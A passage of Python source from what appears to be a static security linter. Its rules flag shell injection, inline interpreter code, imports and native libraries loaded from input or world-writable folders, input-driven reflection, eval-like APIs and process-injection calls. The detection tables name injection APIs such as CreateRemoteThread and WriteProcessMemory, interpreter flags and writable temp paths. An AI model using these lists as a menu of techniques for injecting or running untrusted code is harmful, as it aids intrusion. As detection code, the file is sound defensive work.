    if argument is None or ctx.const(argument) is not None:
        return None
    origin = _formatted_origin(ctx, argument)
    if origin is None or _all_holes_safe(ctx, origin) or _decoded(ctx, argument):
        return None
    template = template_of(ctx, origin)
    how = template.how if template is not None else "string building"
    start = statement.start_byte + wrapper.sink_start
    end = statement.start_byte + wrapper.sink_end
    line = ctx.module.lines.line_of(start) + 1
    related = (Related(start, end, f"`{wrapper.parameter}` runs in a shell here"),)
    where = f" (through `{wrapper.sink}()` on line {line})"
    return Hit.at(call, related=related, sink=site.method or "", how=how, where=where)


def _shell_variable(ctx: Context, site: CallSite) -> Iterator[Hit]:
    call = shell_call(ctx, site)
    if call is None or ctx.const(call.command) is not None:
        return
    command = call.command
    if command.type in {"list", "tuple", "list_comprehension"}:
        return
    taint = ctx.taint(command)
    if taint is not None and (taint.has(*ELSEWHERE) or FORMAT in taint.labels):
        return
    if template_of(ctx, command) is not None or _constant_origin(ctx, command):
        return
    if command.type == "identifier" and (
        _bound_to_lists(ctx, command) or _is_parameter(ctx, command)
    ):
        return  # a wrapper runs what its callers pass: the risk is at the call sites
    if in_test_code(ctx, site.node) or _decoded(ctx, command):
        return
    yield Hit.at(site.node, sink=call.sink, command=describe(ctx, command))


def _is_parameter(ctx: Context, name: Node) -> bool:
    """A parameter of the enclosing function, never reassigned in it."""
    function = ctx.scope_of(name)
    if function.type != "function_definition" or assigned_values(ctx, name):
        return False
    parameters = function.child_by_field_name("parameters")
    text = ctx.text(name)
    for parameter in [] if parameters is None else parameters.named_children:
        node = parameter.child_by_field_name("name") or parameter
        while node.type != "identifier" and node.named_children:
            node = node.named_children[0]
        if ctx.text(node) == text:
            return True
    return False


def _bound_to_lists(ctx: Context, name: Node) -> bool:
    values = assigned_values(ctx, name)
    return bool(values) and all(v.type in {"list", "tuple", "list_comprehension"} for v in values)


def _shell_unneeded(ctx: Context, site: CallSite) -> Iterator[Hit]:
    call = shell_call(ctx, site)
    if call is None or call.shell is None:
        return
    command = ctx.const(call.command)
    if not isinstance(command, str) or _OTHER_FAMILY_COMMAND.search(command):
        return
    if in_test_code(ctx, site.node) or _decoded(ctx, call.command):
        return  # a hidden command is GH155's
    fix = _argv_fix(ctx, site, call)
    if fix is None:
        return  # the command uses shell syntax: the shell is needed
    yield Hit.at(site.node, fix=fix, sink=call.sink)


# --------------------------------------------------------------------------------------------
# The argument-list fix: split a command the way the shell would, when that is unambiguous.

#: characters with a meaning to the shell beyond separating words
_SHELL_SYNTAX = frozenset("|;&<>$`\\(){}*?[]~#!\n\r")
#: inside double quotes, these still mean something
_DOUBLE_QUOTE_SYNTAX = frozenset("$`\\!")

Piece = str | tuple[Node, bool]  # literal text, or (expression, needs str())


def _pieces(ctx: Context, node: Node, depth: int = 0) -> list[Piece] | None:
    """The command as literal text and interpolated expressions, in order."""
    if depth > 12:
        return None
    value = ctx.const(node)
    if isinstance(value, str):
        return [value]
    if value is not None:
        return None
    kind = node.type
    if kind == "parenthesized_expression" and len(node.named_children) == 1:
        return _pieces(ctx, node.named_children[0], depth + 1)
    if kind == "concatenated_string":
        out: list[Piece] = []
        for child in node.named_children:
            part = _pieces(ctx, child, depth + 1)
            if part is None:
                return None
            out.extend(part)
        return out
    if kind == "string":
        return _fstring_pieces(ctx, node)
    if kind == "binary_operator":
        operator = node.child_by_field_name("operator")
        left = node.child_by_field_name("left")
        right = node.child_by_field_name("right")
        if operator is None or left is None or right is None or operator.type != "+":
            return None
        out = []
        for operand in (left, right):
            part = _pieces(ctx, operand, depth + 1)
            if part is None:
                if operand.type in {"string", "concatenated_string", "binary_operator"}:
                    return None
                part = [(operand, False)]  # concatenated to a str: it is a str
            out.extend(part)
        return out
    return None


def _fstring_pieces(ctx: Context, node: Node) -> list[Piece] | None:
    start = ctx.text(node)[:3].lower()
    if "r" in start.split("'")[0].split('"')[0]:
        return None  # raw f-strings: backslashes would need re-escaping
    out: list[Piece] = []
    for child in node.named_children:
        if child.type == "string_content":
            out.append(ctx.text(child).replace("{{", "{").replace("}}", "}"))
        elif child.type == "escape_sequence":
            return None
        elif child.type == "interpolation":
            if any(c.type in {"type_conversion", "format_specifier"} for c in child.named_children):
                return None
            expression = child.child_by_field_name("expression")
            if expression is None or ctx.text(child).rstrip("} ").endswith("="):
                return None
            out.append((expression, True))
    return out


Word = list[Piece]


def _split(pieces: list[Piece]) -> list[Word] | None:
    """shlex-style word splitting; None when the text uses any other shell syntax."""
    words: list[Word] = []
    current: Word = []
    started = False
    quote: str | None = None
    for piece in pieces:
        if not isinstance(piece, str):
            current.append(piece)
            started = True
            continue
        for char in piece:
            if quote is not None:
                if char == quote:
                    quote = None
                elif quote == '"' and char in _DOUBLE_QUOTE_SYNTAX:
                    return None
                else:
                    _add_char(current, char)
            elif char in "'\"":
                quote = char
                started = True
            elif char in " \t":
                if started:
                    words.append(current)
                current, started = [], False
            elif char in _SHELL_SYNTAX:
                return None
            else:
                _add_char(current, char)
                started = True
    if quote is not None:
        return None
    if started:
        words.append(current)
    if not words or any(isinstance(p, str) and "=" in p for p in words[0]):
        return None  # `VAR=value cmd` sets the environment: shell semantics
    return words


def _add_char(word: Word, char: str) -> None:
    if word and isinstance(word[-1], str):
        word[-1] += char
    else:
        word.append(char)


def _python_literal(text: str, quote: str) -> str:
    escaped = text.replace("\\", "\\\\").replace(quote, "\\" + quote)
    return f"{quote}{escaped}{quote}"


def _element(ctx: Context, word: Word, quote: str) -> str | None:
    if all(isinstance(p, str) for p in word):
        return _python_literal("".join(p for p in word if isinstance(p, str)), quote)
    if len(word) == 1 and not isinstance(word[0], str):
        node, needs_str = word[0]
        text = ctx.text(node)
        return f"str({text})" if needs_str and not _is_text(ctx, node) else text
    parts: list[str] = []
    for piece in word:
        if isinstance(piece, str):
            parts.append(piece.replace("\\", "\\\\").replace("{", "{{").replace("}", "}}"))
            continue
        text = ctx.text(piece[0])
        if quote in text or "\\" in text or "\n" in text:
            return None
        parts.append("{" + text + "}")
    body = "".join(parts).replace(quote, "\\" + quote)
    return f"f{quote}{body}{quote}"


_TEXT_METHODS = frozenset({"strip", "lower", "upper", "format", "join", "replace", "decode"})


def _is_text(ctx: Context, node: Node) -> bool:
    """Already a str: `str(x)`, `name.strip()`, `os.path.join(...)`, a string literal."""
    if node.type in {"string", "concatenated_string"}:
        return True
    if node.type != "call":
        return False
    function = node.child_by_field_name("function")
    if function is None:
        return False
    name = ctx.qualname(function) or ""
    return name in {"str", "os.path.join", "os.path.basename", "shlex.quote"} or (
        function.type == "attribute" and ctx.text(function).rsplit(".", 1)[-1] in _TEXT_METHODS
    )


def _argv_fix(ctx: Context, site: CallSite, call: ShellCall) -> Fix | None:
    pieces = _pieces(ctx, call.command)
    words = None if pieces is None else _split(pieces)
    if words is None:
        return None
    quote = "'" if ctx.text(call.command).lstrip("fFrRbBuU")[:1] == "'" else '"'
    elements = [_element(ctx, word, quote) for word in words]
    if any(e is None for e in elements):
        return None
    argv = "[" + ", ".join(e for e in elements if e is not None) + "]"
    if call.shell is not None:
        removal = _remove_argument(ctx, call.shell)
        if removal is None:
            return None
        edits = (Edit(call.command.start_byte, call.command.end_byte, argv), removal)
        return Fix("Run the program directly with an argument list", edits, safe=False)
    return _os_fix(ctx, site, call, argv)


def _remove_argument(ctx: Context, argument: Node) -> Edit | None:
    """Delete `, shell=True` (with its comma) from an argument list."""
    previous = argument.prev_sibling
    if previous is not None and previous.type == ",":
        return Edit(previous.start_byte, argument.end_byte, "")
    following = argument.next_sibling
    if following is not None and following.type == ",":
        end = following.end_byte
        while end < len(ctx.source) and ctx.source[end : end + 1] in {b" ", b"\t"}:
            end += 1
        return Edit(argument.start_byte, end, "")
    return None


def _os_fix(ctx: Context, site: CallSite, call: ShellCall, argv: str) -> Fix | None:
    """os.system(cmd) -> subprocess.run([...]); os.popen(cmd).read() -> ....stdout."""
    imports = import_edits(ctx, "subprocess")
    if imports is None:
        return None
    node = site.node
    if call.sink == "os.system":
        parent = node.parent
        used = parent is not None and parent.type != "expression_statement"
        text = f"subprocess.run({argv})" + (".returncode" if used else "")
    elif call.sink == "os.popen":
        attribute = node.parent
        outer = None if attribute is None else attribute.parent
        if (
            attribute is None
            or outer is None
            or attribute.type != "attribute"
            or outer.type != "call"
            or ctx.text(attribute)[len(ctx.text(node)) :].strip() != ".read"
            or ctx.text(outer)[len(ctx.text(attribute)) :].replace(" ", "") != "()"
        ):
            return None
        node = outer
        text = f"subprocess.run({argv}, stdout=subprocess.PIPE, text=True).stdout"
    else:
        return None
    edits = (*imports, Edit(node.start_byte, node.end_byte, text))
    return Fix("Run the program directly with subprocess and an argument list", edits, safe=False)


# --------------------------------------------------------------------------------------------
# GH105: interpreters given inline code

_INTERPRETERS = {
    **dict.fromkeys(("sh", "bash", "zsh", "dash", "ksh", "fish", "busybox"), ("-c",)),
    **dict.fromkeys(("cmd", "cmd.exe"), ("/c", "/C", "/k", "/K")),
    **dict.fromkeys(
        ("powershell", "powershell.exe", "pwsh", "pwsh.exe"),
        ("-Command", "-command", "-c", "-C"),
    ),
    **dict.fromkeys(("python", "python3", "python2", "pypy", "pypy3", "py"), ("-c",)),
    **dict.fromkeys(("perl", "ruby", "node", "nodejs"), ("-e",)),
    "php": ("-r",),
}
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "busybox", "cmd", "cmd.exe"})
_PYTHON_VERSION = re.compile(r"python\d(?:\.\d+)?$")
_PROCESS_LISTS = SUBPROCESS | frozenset({"asyncio.create_subprocess_exec", "pty.spawn"})
_VARIADIC = frozenset(
    {"os.execl", "os.execlp", "os.execle", "os.execlpe", "os.spawnl", "os.spawnlp", "os.spawnle",
     "os.spawnlpe"}
)  # fmt: skip
_VECTOR = frozenset(
    {"os.execv", "os.execvp", "os.execve", "os.execvpe", "os.spawnv", "os.spawnvp", "os.spawnve",
     "os.spawnvpe", "os.posix_spawn", "os.posix_spawnp"}
)  # fmt: skip


def _argv(ctx: Context, site: CallSite) -> list[Node] | None:
    """The argument vector a process call starts, when it is written out."""
    name = site.name or ""
    if name in _PROCESS_LISTS:
        if name in SUBPROCESS and "shell" in site.keywords:
            return None
        if name == "asyncio.create_subprocess_exec":
            return list(site.args)
        command = site.arg(0, "args") or site.arg(0, "argv")
        return None if command is None else _items(ctx, command)
    if name in _VARIADIC:
        skip = 2 if name.startswith("os.spawn") else 1  # mode, path / path
        return list(site.args[skip:])
    if name in _VECTOR:
        index = 2 if name.startswith("os.spawn") else 1
        vector = site.arg(index, "argv") or site.arg(index, "args")
        return None if vector is None else _items(ctx, vector)
    return None


def _items(ctx: Context, node: Node) -> list[Node] | None:
    if node.type == "identifier":
        values = assigned_values(ctx, node)
        if len(values) != 1:
            return None
        node = values[0]
    if node.type not in {"list", "tuple"}:
        return None
    return [c for c in node.named_children if c.type != "comment"]


def _interpreter(ctx: Context, node: Node) -> str | None:
    if ctx.qualname(node) == "sys.executable":
        return "python"
    value = ctx.const(node)
    if not isinstance(value, str):
        return None
    base = value.replace("\\", "/").rsplit("/", 1)[-1].lower()
    if _PYTHON_VERSION.fullmatch(base) or base.startswith("python3."):
        return "python"
    return base if base in _INTERPRETERS else None


def _interpreter_inline(ctx: Context, site: CallSite) -> Iterator[Hit]:
    argv = _argv(ctx, site)
    if not argv or in_test_code(ctx, site.node):
        return
    program = _interpreter(ctx, argv[0])
    if program is None:
        return
    flags = _INTERPRETERS.get(program, ())
    for index, item in enumerate(argv[1:-1], start=1):
        flag = ctx.const(item)
        if flag in flags:
            yield from _inline_script(ctx, site, program, argv[index + 1], "a script")
            return
        if not isinstance(flag, str) or not flag.startswith("-"):
            return  # a script file or other argument: the code is not inline
    if len(argv) <= 2 and all(ctx.const(i) in {"-", "-s", "-i", "-q"} for i in argv[1:]):
        stdin = site.keywords.get("input")
        if stdin is not None:
            yield from _inline_script(ctx, site, program, stdin, "a script on stdin")


def _inline_script(
    ctx: Context, site: CallSite, program: str, script: Node, what: str
) -> Iterator[Hit]:
    if ctx.const(script) is not None or _constant_origin(ctx, script):
        return
    if _other_family(ctx, script):
        return
    taint = ctx.taint(script)
    if taint is not None and taint.has(*ELSEWHERE) and (program in _SHELLS or taint.has(NETWORK)):
        return  # GH505 (shells) and GH202 (downloads) report these
    where = ""
    related: tuple[Related, ...] = ()
    origin = _formatted_origin(ctx, script)
    if origin is not None and _all_holes_safe(ctx, origin):
        return
    source = find_source(ctx, script, UNTRUSTED)
    if source is not None:
        where = f" from {source.kind} `{source.text}` on line {source.line}"
        related = source.related
    elif origin is not None and origin is not script:
        line = ctx.module.lines.line_of(origin.start_byte) + 1
        where = f" (built on line {line})"
        related = (Related(origin.start_byte, origin.end_byte, "script built here"),)
    yield Hit.at(site.node, related=related, program=program, what=what, where=where)


# --------------------------------------------------------------------------------------------
# GH106-GH108: code loaded from paths and names, and reflection

_CODE_LOADERS = {
    "__import__": 0, "builtins.__import__": 0, "importlib.__import__": 0,
    "importlib.import_module": 0, "runpy.run_path": 0, "runpy.run_module": 0,
    "imp.load_source": 1, "imp.load_module": 0, "importlib.util.spec_from_file_location": 1,
    "importlib.machinery.SourceFileLoader": 1, "pkgutil.resolve_name": 0, "execfile": 0,
    "sys.path.insert": 1, "sys.path.append": 0, "site.addsitedir": 0,
}  # fmt: skip


#: calls that make a directory importable or load code from a path: callee -> path argument
_PATH_LOADERS = {
    "sys.path.insert": (1, "object"), "sys.path.append": (0, "object"),
    "site.addsitedir": (0, "sitedir"), "importlib.util.spec_from_file_location": (1, "location"),
    "importlib.machinery.SourceFileLoader": (1, "path"), "runpy.run_path": (0, "path_name"),
    "imp.load_source": (1, "pathname"), "imp.load_compiled": (1, "pathname"),
    "importlib.machinery.SourcelessFileLoader": (1, "path"), "zipimport.zipimporter": (0, "path"),
}  # fmt: skip


def _writable_code_path(ctx: Context, site: CallSite) -> Iterator[Hit]:
    index, keyword = _PATH_LOADERS.get(site.name or "", (None, None))
    if index is None:
        return
    path = site.arg(index, keyword)
    if path is None or in_test_code(ctx, site.node):
        return
    taint = ctx.taint(path)
    if taint is not None and taint.has(*ELSEWHERE):
        return  # GH107 (input) and GH203 (downloads) report these
    shown = _writable_location(ctx, path)
    if shown is not None:
        yield Hit.at(site.node, name=_short(site.name, "import"), what=shown)


def _import_from_input(ctx: Context, site: CallSite) -> Iterator[Hit]:
    index = _CODE_LOADERS.get(site.name or "")
    if index is None:
        return
    target = site.arg(index, "path" if index else "name") or site.arg(index, "location")
    if target is None or _allow_listed(ctx, target):
        return
    source = find_source(ctx, target, UNTRUSTED)
    if source is None:
        return
    yield Hit.at(
        site.node,
        related=source.related,
        name=_short(site.name, "import"),
        kind=source.kind,
        source=source.text,
        line=str(source.line),
    )


def _allow_listed(ctx: Context, node: Node) -> bool:
    """`PLUGINS[name]` or `PLUGINS.get(name)` on a constant table: input only selects."""
    if node.type == "identifier":
        values = assigned_values(ctx, node)
        return len(values) == 1 and _allow_listed(ctx, values[0])
    container: Node | None = None
    if node.type == "subscript":
        container = node.child_by_field_name("value")
    elif node.type == "call":
        function = node.child_by_field_name("function")
        if (
            function is not None
            and function.type == "attribute"
            and ctx.text(function).endswith(".get")
        ):
            container = function.child_by_field_name("object")
    if container is None:
        return False
    if container.type == "identifier":
        values = assigned_values(ctx, container)
        return bool(values) and all(is_constant(ctx, v) for v in values)
    return is_constant(ctx, container)


def _reflection_from_input(ctx: Context, site: CallSite) -> Iterator[Hit]:
    attribute = site.arg(1)
    parent = site.node.parent
    if attribute is None or parent is None or ctx.const(attribute) is not None:
        return
    if parent.type == "call" and parent.child_by_field_name("function") == site.node:
        called = parent  # `getattr(obj, name)(...)`
    elif parent.type == "assignment" and _called_later(ctx, site.node) is not None:
        called = site.node  # `handler = getattr(obj, name)`, then `handler(...)`
    else:
        return  # only a looked-up value that is called runs something
    if _allow_listed(ctx, attribute) or _membership_checked(ctx, attribute, site.node):
        return
    if attribute.type in {"string", "binary_operator", "concatenated_string"}:
        template = template_of(ctx, attribute)
        if template is not None and template.text and not template.text.startswith("\x00"):
            return  # `"do_" + action`: a fixed prefix limits what can be reached
    source = find_source(ctx, attribute, UNTRUSTED)
    if source is None:
        return
    yield Hit.at(
        called,
        related=source.related,
        kind=source.kind,
        source=source.text,
        line=str(source.line),
    )


def _called_later(ctx: Context, lookup: Node) -> Node | None:
    """`handler = getattr(obj, name)` followed by `handler(...)` in the same function."""
    assignment = lookup.parent
    if assignment is None or assignment.type != "assignment":
        return None
    target = assignment.child_by_field_name("left")
    if target is None or target.type != "identifier":
        return None
    scope = ctx.scope_of(lookup)
    if scope.type != "function_definition":
        return None
    name = re.escape(ctx.source[target.start_byte : target.end_byte])
    pattern = re.compile(rb"(?<![\w.])" + name + rb"\s*\(")
    for match in pattern.finditer(ctx.source, assignment.end_byte, scope.end_byte):
        node = ctx.node_at(match.start(), match.start() + len(target.text or b""))
        call = node.parent
        if (
            node.type == "identifier"
            and call is not None
            and call.type == "call"
            and call.child_by_field_name("function") == node
            and ctx.scope_of(call) == scope
        ):
            return call
    return None


def _membership_checked(ctx: Context, attribute: Node, lookup: Node) -> bool:
    """`if name not in ALLOWED: abort(400)` before the lookup: the input only selects."""
    scope = ctx.scope_of(lookup)
    text = re.escape(ctx.source[attribute.start_byte : attribute.end_byte])
    pattern = re.compile(rb"(?<![\w.])" + text + rb"\s+(?:not\s+)?in\s+[\w.(\[{]")
    return pattern.search(ctx.source, scope.start_byte, lookup.start_byte) is not None


# --------------------------------------------------------------------------------------------
# GH109: executable memory and process injection

_EXECUTE_PROTECTIONS = frozenset({0x10, 0x20, 0x40, 0x80})
_PROTECT_INDEX = {
    "VirtualAlloc": 3,
    "VirtualAllocEx": 4,
    "VirtualProtect": 2,
    "VirtualProtectEx": 3,
}
_INJECTION_CALLS = frozenset(
    {"CreateRemoteThread", "CreateRemoteThreadEx", "WriteProcessMemory", "NtCreateThreadEx",
     "QueueUserAPC", "RtlCreateUserThread", "NtWriteVirtualMemory", "CreateThread",
     "RtlMoveMemory"}
)  # fmt: skip


_INJECTION_WHAT = {
    "CreateThread": "starts a thread at a raw memory address",
    "RtlMoveMemory": "copies raw bytes into memory by address",
    "": "writes or starts code in another process",
}


def _executable_memory(ctx: Context, site: CallSite) -> Iterator[Hit]:
    method = site.method or ""
    label = ctx.text(site.function)
    if in_test_code(ctx, site.node):
        return
    if method in _PROTECT_INDEX:
        protection = site.arg(_PROTECT_INDEX[method], "flProtect") or site.arg(
            _PROTECT_INDEX[method], "flNewProtect"
        )
        if protection is not None and _executable_protection(ctx, protection):
            yield Hit.at(site.node, name=label, what="maps memory that is writable and executable")
        return
    if method in _INJECTION_CALLS:
        yield Hit.at(site.node, name=label, what=_INJECTION_WHAT.get(method, _INJECTION_WHAT[""]))
        return
    if site.name in {"mmap.mmap", "mmap"}:
        protection = site.keywords.get("prot") or (site.args[3] if len(site.args) > 3 else None)
        if protection is not None and "PROT_EXEC" in ctx.text(protection):
            yield Hit.at(site.node, name=label, what="maps memory that is executable")
        return
    if site.name == "ctypes.cast" and len(site.args) == 2:
        target = site.args[1]
        if target.type == "call" and "FUNCTYPE" in ctx.text(
            target.child_by_field_name("function") or target
        ):
            yield Hit.at(site.node, name=label, what="turns a data buffer into a callable function")


def _executable_protection(ctx: Context, node: Node) -> bool:
    if "PAGE_EXECUTE" in ctx.text(node):
        return True
    from ..literals import const_int

    value = const_int(ctx.module, node)
    return value in _EXECUTE_PROTECTIONS


# --------------------------------------------------------------------------------------------
# GH111: APIs that evaluate strings

#: callee -> (argument index, keyword): the argument is compiled and run
_INDIRECT_EVAL = {
    "timeit.timeit": (0, "stmt"), "timeit.repeat": (0, "stmt"), "timeit.Timer": (0, "stmt"),
    "cProfile.run": (0, "statement"), "cProfile.runctx": (0, "statement"),
    "profile.run": (0, "statement"), "profile.runctx": (0, "statement"),
    "pdb.run": (0, "statement"), "pdb.runeval": (0, "expression"),
    "pdb.runctx": (0, "statement"), "sympy.sympify": (0, "a"),
    "sympy.core.sympify.sympify": (0, "a"), "sympy.parsing.sympy_parser.parse_expr": (0, "s"),
    "sympy.parse_expr": (0, "s"),
}  # fmt: skip
#: only data from outside is worth a finding for these: they also take non-strings
_TAINT_ONLY = frozenset({"sympy.sympify", "sympy.core.sympify.sympify"})


def _indirect_eval(ctx: Context, site: CallSite) -> Iterator[Hit]:
    name = site.name or ""
    index, keyword = _INDIRECT_EVAL.get(name, (None, None))
    if index is None:
        return
    value = site.arg(index, keyword)
    if value is None or ctx.const(value) is not None:
        return
    source = find_source(ctx, value, (*UNTRUSTED, NETWORK))
    if source is not None:
        what = f"{source.kind} from `{source.text}` on line {source.line}"
        yield Hit.at(site.node, related=source.related, name=_short(name, "eval"), what=what)
        return
    if name in _TAINT_ONLY or in_test_code(ctx, site.node):
        return
    origin = _formatted_origin(ctx, value)
    if origin is None or _all_holes_safe(ctx, origin):
        return
    yield Hit.at(site.node, name=_short(name, "eval"), what="a string built at runtime")


# --------------------------------------------------------------------------------------------
# GH112: native libraries from writable places

_LIBRARY_LOADERS = frozenset(
    {"ctypes.CDLL", "ctypes.WinDLL", "ctypes.OleDLL", "ctypes.PyDLL", "ctypes.cdll.LoadLibrary",
     "ctypes.windll.LoadLibrary", "ctypes.LibraryLoader.LoadLibrary", "cffi.FFI.dlopen",
     "_ctypes.dlopen", "ctypes.oledll.LoadLibrary"}
)  # fmt: skip
_WRITABLE_PATH = re.compile(
    r"^(?:/tmp/|/var/tmp/|/dev/shm/|/run/user/|[A-Za-z]:\\(?:Windows\\)?Temp\\|%TEMP%|%TMP%"
    r"|\$TMPDIR|~/(?:Downloads|\.cache)/|/sdcard/|C:\\Users\\Public\\)",
    re.IGNORECASE,
)
#: the shared temporary directory; `mkdtemp()` and friends create private ones, which are fine
_TEMP_CALLS = frozenset({"tempfile.gettempdir", "tempfile.gettempdirb"})


def _native_library(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if site.name not in _LIBRARY_LOADERS:
        return
    path = site.arg(0, "name")
    if path is None:
        return
    name = _short(site.name, "CDLL")
    taint = ctx.taint(path)
    if taint is not None and taint.has(NETWORK):
        return  # downloaded and loaded: GH203
    source = find_source(ctx, path, UNTRUSTED)
    if source is not None:
        what = f"a path chosen by {source.kind} from `{source.text}` on line {source.line}"
        yield Hit.at(site.node, related=source.related, name=name, what=what)
        return
    shown = _writable_location(ctx, path) or _scanned_folder(ctx, path)
    if shown is not None:
        yield Hit.at(site.node, name=name, what=shown)


#: directory listings: every file they yield lies in their first argument (or receiver)
_LISTINGS = frozenset({"glob.glob", "glob.iglob", "os.listdir", "os.scandir"})
_LISTING_METHODS = frozenset({"glob", "rglob", "iterdir"})
_HOME = frozenset({"pathlib.Path.home", "os.path.expanduser"})
_CWD = frozenset({"pathlib.Path.cwd", "os.getcwd"})
_HOME_FOLDER = "a folder in the user's home directory"


def _scanned_folder(ctx: Context, node: Node, depth: int = 0) -> str | None:
    """Every library found in a folder under the user's home or the working directory: any
    program the user runs, or whoever chooses the directory it starts in, adds native code."""
    if depth > 6:
        return None
    if node.type == "identifier":
        iterated = _iteration_source(ctx, node)
        if iterated is not None:
            folder = _listed_folder(ctx, iterated)
            return None if folder is None else f"every file found in {folder}"
        values = assigned_values(ctx, node)
        return _scanned_folder(ctx, values[-1], depth + 1) if values else None
    if node.type == "call":
        function = node.child_by_field_name("function")
        name = None if function is None else ctx.qualname(function)
        args = _call_arguments(node)
        if name in {"str", "os.fspath", "os.path.abspath", "os.path.realpath"} and args:
            return _scanned_folder(ctx, args[0], depth + 1)
        if name == "os.path.join" and len(args) >= 2:  # join(folder, entry) over a listing
            return _scanned_folder(ctx, args[-1], depth + 1)
        return None
    if node.type == "binary_operator":  # `folder / entry`
        right = node.child_by_field_name("right")
        return None if right is None else _scanned_folder(ctx, right, depth + 1)
    if node.type == "attribute" and ctx.text(node).endswith(".path"):  # `os.scandir` entries
        obj = node.child_by_field_name("object")
        return None if obj is None else _scanned_folder(ctx, obj, depth + 1)
    return None


def _call_arguments(node: Node) -> list[Node]:
    arguments = node.child_by_field_name("arguments")
    if arguments is None or arguments.type != "argument_list":
        return []
    return [a for a in arguments.named_children if a.type not in {"comment", "keyword_argument"}]


def _listed_folder(ctx: Context, node: Node, depth: int = 0) -> str | None:
    """`sorted(Path("~/.acme/plugins").expanduser().glob("*.so"))`: the listed folder, shown,
    when it is under the home or the working directory."""
    if depth > 6:
        return None
    if node.type == "identifier":
        values = assigned_values(ctx, node)
        return _listed_folder(ctx, values[-1], depth + 1) if values else None
    if node.type != "call":
        return None
    function = node.child_by_field_name("function")
    name = None if function is None else ctx.qualname(function)
    args = _call_arguments(node)
    if name in {"sorted", "list", "reversed"} and args:
        return _listed_folder(ctx, args[0], depth + 1)
    if name in _LISTINGS and args:
        return _user_folder(ctx, args[0])
    if function is not None and function.type == "attribute":
        method = function.child_by_field_name("attribute")
        receiver = function.child_by_field_name("object")
        if method is not None and receiver is not None and ctx.text(method) in _LISTING_METHODS:
            return _user_folder(ctx, receiver)
    return None


def _user_folder(ctx: Context, node: Node, depth: int = 0) -> str | None:
    """A folder under the user's home or relative to the working directory, described."""
    if depth > 6:
        return None
    value = ctx.const(node)
    if isinstance(value, str):
        if value.startswith("~"):
            return f"`{value[:60]}`, in the user's home directory"
        if value and not value.startswith(("/", "\\")) and not re.match(r"[A-Za-z]:", value):
            return f"`{value[:60]}`, relative to the working directory"
        return None
    if node.type == "identifier":
        values = assigned_values(ctx, node)
        return _user_folder(ctx, values[-1], depth + 1) if values else None
    if node.type == "binary_operator":
        left = node.child_by_field_name("left")
        return None if left is None else _user_folder(ctx, left, depth + 1)
    if node.type != "call":
        template = template_of(ctx, node)
        return _HOME_FOLDER if template is not None and template.text.startswith("~") else None
    function = node.child_by_field_name("function")
    name = None if function is None else ctx.qualname(function)
    args = _call_arguments(node)
    if name in _CWD:
        return "the working directory"
    if name in _HOME:
        return _HOME_FOLDER
    if name in {"pathlib.Path", "os.path.join", "str"} and args:
        return _user_folder(ctx, args[0], depth + 1)
    if function is not None and function.type == "attribute":
        method = function.child_by_field_name("attribute")
        receiver = function.child_by_field_name("object")
        if method is not None and receiver is not None:
            if ctx.text(method) == "expanduser":
                return _user_folder(ctx, receiver, depth + 1) or _HOME_FOLDER
            if ctx.text(method) in {"resolve", "absolute", "joinpath"}:
                return _user_folder(ctx, receiver, depth + 1)
    return None


#: calls whose result is (a list of) paths inside their first argument's directory
_PATH_WRAPPERS = frozenset(
    {"os.path.join", "pathlib.Path", "os.path.expanduser", "str", "os.fspath", "sorted", "list",
     "reversed", "os.path.abspath", "os.path.realpath", "os.path.normpath", "glob.glob",
     "glob.iglob", "os.scandir", "pathlib.PurePath"}
)  # fmt: skip
#: path methods whose result lies in the receiver's directory
_PATH_METHODS = frozenset(
    {"glob", "rglob", "iterdir", "resolve", "absolute", "joinpath", "expanduser", "with_name",
     "with_suffix"}
)  # fmt: skip


def _writable_location(ctx: Context, node: Node, depth: int = 0) -> str | None:
    if depth > 6:
        return None
    value = ctx.const(node)
    if isinstance(value, str):
        return (
            f"`{value[:60]}`, a directory anyone can write" if _WRITABLE_PATH.match(value) else None
        )
    if node.type == "identifier":
        iterated = _iteration_source(ctx, node)
        if iterated is not None:
            found = _writable_location(ctx, iterated, depth + 1)
            return None if found is None else _found_in(found)
        values = assigned_values(ctx, node)
        for bound in values[-1:]:
            return _writable_location(ctx, bound, depth + 1)
        return None
    template = template_of(ctx, node)
    if template is not None and _WRITABLE_PATH.match(template.text.replace("\x00", "x")):
        return "a file in a directory anyone can write"
    if node.type == "binary_operator":  # `PLUGIN_DIR / name`
        operator = node.child_by_field_name("operator")
        left = node.child_by_field_name("left")
        if operator is not None and operator.type == "/" and left is not None:
            return _writable_location(ctx, left, depth + 1)
        return None
    if node.type == "attribute" and ctx.text(node).endswith(".path"):  # `os.scandir` entries
        obj = node.child_by_field_name("object")
        return None if obj is None else _writable_location(ctx, obj, depth + 1)
    if node.type == "call":
        function = node.child_by_field_name("function")
        name = None if function is None else ctx.qualname(function)
        arguments = node.child_by_field_name("arguments")
        first = (
            None
            if arguments is None or not arguments.named_children
            else arguments.named_children[0]
        )
        if name in _TEMP_CALLS:
            return "a temporary directory"
        if name in _PATH_WRAPPERS:
            return None if first is None else _writable_location(ctx, first, depth + 1)
        if function is not None and function.type == "attribute":
            method = function.child_by_field_name("attribute")
            receiver = function.child_by_field_name("object")
            if method is not None and receiver is not None and ctx.text(method) in _PATH_METHODS:
                return _writable_location(ctx, receiver, depth + 1)
    return None


def _found_in(location: str) -> str:
    """`/tmp/plugins`, a directory anyone can write -> every file found there."""
    if location.startswith("every file found in "):
        return location
    return "every file found in " + location.removeprefix("a file in ")


def _iteration_source(ctx: Context, name: Node) -> Node | None:
    """The iterable of the `for` loop or comprehension that binds `name`, if one does."""
    text = ctx.text(name)
    current = name.parent
    while current is not None and current.type not in {"function_definition", "module"}:
        clauses = (
            [current]
            if current.type == "for_statement"
            else [c for c in current.named_children if c.type == "for_in_clause"]
            if current.type in _COMPREHENSIONS
            else []
        )
        for clause in clauses:
            left = clause.child_by_field_name("left")
            if left is not None and left.type == "identifier" and ctx.text(left) == text:
                return clause.child_by_field_name("right")
        current = current.parent
    return None


_COMPREHENSIONS = frozenset(
    {"list_comprehension", "generator_expression", "set_comprehension", "dictionary_comprehension"}
)


# --------------------------------------------------------------------------------------------

_SHELL_SINKS = SHELL_ALWAYS | SUBPROCESS
#: the modules those sinks live in
_SHELL_MODULES = frozenset(name.partition(".")[0] for name in _SHELL_SINKS)
_PROCESS_SINKS = _PROCESS_LISTS | _VARIADIC | _VECTOR

RULES = [
    CallRule(EVAL_OF_DATA, _eval_of_data, names=_EVAL_NAMES),
